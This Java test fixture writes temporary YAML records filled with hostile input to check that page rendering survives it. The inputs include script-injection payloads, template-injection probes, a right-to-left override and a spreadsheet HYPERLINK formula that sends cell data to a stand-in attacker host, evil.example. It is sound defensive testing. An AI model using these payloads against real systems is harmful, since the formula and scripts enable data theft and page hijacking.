package org.sourcebook.testing;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;

import org.springframework.util.FileSystemUtils;

/**
 * Records whose texts are full of what breaks pages that are put together without care:
 * markup, quotes, writing from right to left, and names of 500 characters.
 */
public final class UnrulyRecords {

	/** Markup of several kinds. */
	public static final String MARKUP = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>&amp;]]>--><b>${7*7}#{x}__${7*7}__";

	/** A name from right to left that holds a character turning the direction. */
	public static final String TURNED = "\u0643\u0648\u0631\u064a\u0627 \u202egnol\u202c (\u05e9\u05dc\u05d5\u05dd)";

	/** A name without a place to break it. */
	public static final String LONG = "Kim".repeat(166) + "Ha";

	/** What a spreadsheet would run. */
	public static final String FORMULA = "=HYPERLINK(\"https://evil.example/?\"&A1,\"a, b\")";

	private static final String QUOTED = MARKUP.replace("'", "''");

	private UnrulyRecords() {
	}

	static String location() {
		try {
			Path folder = Files.createTempDirectory("unruly-records");
			Runtime.getRuntime().addShutdownHook(new Thread(() -> FileSystemUtils.deleteRecursively(folder.toFile())));
			Files.writeString(folder.resolve("sources.yaml"), """
					- {id: markup, name: '%1$s', kind: government, aliases: ['%1$s', '%2$s']}
					- {id: turned, name: '%2$s', kind: person, parent: markup, role: '%1$s'}
					- {id: long, name: '%3$s', kind: group, named: false}
					""".formatted(QUOTED, TURNED, LONG));
			Files.writeString(folder.resolve("publishers.yaml"), "- {id: daily, name: '%s'}\n".formatted(QUOTED));
			Files.writeString(folder.resolve("locations.yaml"),
					"""
							- {id: region, name: '%s', kind: region}
							- {id: town, name: '%s', kind: city, parent: region, region: '%s', point: {lat: 51, lon: 35}, precision: settlement}
							"""
						.formatted(LONG, TURNED, QUOTED));
			Files.writeString(folder.resolve("metrics.yaml"),
					"- {id: troops, name: '%s', definition: '%s', unit: persons}\n".formatted(QUOTED, TURNED));
			Files.writeString(folder.resolve("storylines.yaml"),
					"- {id: story, name: '%s', rule: '%s'}\n".formatted(QUOTED, LONG));
			Path report = folder.resolve("reports/2024/2024-10-24-daily.yaml");
			Files.createDirectories(report.getParent());
			Files.writeString(report, report());
			return "file:" + folder + "/";
		}
		catch (IOException ex) {
			throw new UncheckedIOException(ex);
		}
	}

	private static String report() {
		StringBuilder text = new StringBuilder("""
				publisher: daily
				url: https://daily.example/1
				published: 2024-10-24
				language: en
				title: '%1$s'
				headline: '%1$s'
				summary: '%2$s'
				readFrom: full-text
				storylines: [story]
				note: '%1$s'
				corrections:
				- {date: 2025-01-02, kind: clarification, reason: '%1$s', record: c01}
				claims:
				""".formatted(QUOTED, TURNED));
		int number = 1;
		for (String source : List.of("markup", "turned", "long")) {
			text.append("""
					- id: c0%3$d
					  source: %4$s
					  said: 2024-10-23
					  kind: estimate
					  text: '%1$s %3$d'
					  cites: [{unknown: '%1$s'}]
					  places: [town]
					  occasion: '%5$s'
					  basis: '%1$s'
					  note: '%2$s'
					  estimates:
					  - {id: e1, metric: troops, qualifier: about, figure: %3$d000, asOf: 2024-10-23, wording: '%1$s'}
					""".formatted(QUOTED, TURNED, number++, source, FORMULA));
			if (number > 2) {
				text.append("  relations:\n  - {kind: contradicts, claim: 2024-10-24-daily-c01}\n");
			}
		}
		return text.toString();
	}

}
